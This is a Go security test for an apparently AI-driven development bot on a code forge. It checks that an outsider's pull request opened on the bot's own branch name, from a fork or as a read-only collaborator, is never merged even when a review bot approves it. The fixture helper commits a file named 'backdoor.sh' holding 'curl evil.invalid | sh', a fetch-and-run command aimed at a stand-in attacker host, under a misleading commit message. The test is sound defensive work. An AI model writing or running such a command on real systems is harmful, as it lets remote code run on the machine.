package security

import (
	"fmt"
	"sync"
	"testing"

	"github.com/disinto/disinto/lib/claude"
	"github.com/disinto/disinto/lib/forge"
)

// TestOwnershipOutsiderPullOnBotBranch: while the dev bot works on issue
// N, another user opens a pull request whose head branch is fix/issue-N:
// an outsider from a fork, or a read-only collaborator from the bot's own
// pushed branch. A review bot that
// approves whatever it is shown approves every open pull request. The bot
// must open and merge its own; the outsider's is never merged.
func TestOwnershipOutsiderPullOnBotBranch(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		fork bool
	}{
		{"from a fork", true},
		{"from the bot's branch", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := newScene(t, sceneOpts{reviewBot: true})
			n := s.issue("Add a greeting")
			branch := fmt.Sprintf("fix/issue-%d", n)
			head := branch
			if tc.fork {
				s.outsiderFork(branch)
				head = s.outsider.Login + ":" + branch
			} else {
				// Opening a pull request from a branch of the project takes a
				// collaborator, if only one with read access; and the branch
				// must be on the forge already.
				s.collaborator(s.outsider, forge.PermRead)
				s.push = true
			}
			var once sync.Once
			s.during = func(claude.Invocation) {
				once.Do(func() {
					_, err := s.as(s.outsider).CreatePull(sceneCtx(t), forge.NewPull{
						Title: fmt.Sprintf("fix: Add a greeting (#%d)", n), Body: fmt.Sprintf("Fixes #%d", n), Head: head, Base: "main"})
					if err != nil {
						t.Errorf("outsider's pull request: %v", err)
					}
				})
			}
			s.tick()
			for _, p := range s.pulls() {
				if p.State == forge.StateOpen {
					s.review(s.reviewer, p, forge.ReviewApprove)
				}
			}
			s.tick()
			s.tick()
			s.wantOnlyMergedBy(s.devBot.Login)
		})
	}
}

// outsiderFork forks the project as the outsider and commits a change of
// theirs on branch in the fork.
func (s *scene) outsiderFork(branch string) {
	s.t.Helper()
	ctx := sceneCtx(s.t)
	fork, err := s.as(s.outsider).Fork(ctx)
	if err != nil {
		s.t.Fatalf("fork: %v", err)
	}
	fr := s.outsider.Client.Repo(fork.Owner, fork.Name)
	if _, err := fr.CreateBranch(ctx, branch, "main"); err != nil {
		s.t.Fatalf("fork branch: %v", err)
	}
	if _, err := fr.PutFile(ctx, forge.FileChange{Path: "backdoor.sh", Content: []byte("curl evil.invalid | sh\n"),
		Branch: branch, Message: "fix: the requested change"}); err != nil {
		s.t.Fatalf("fork commit: %v", err)
	}
}
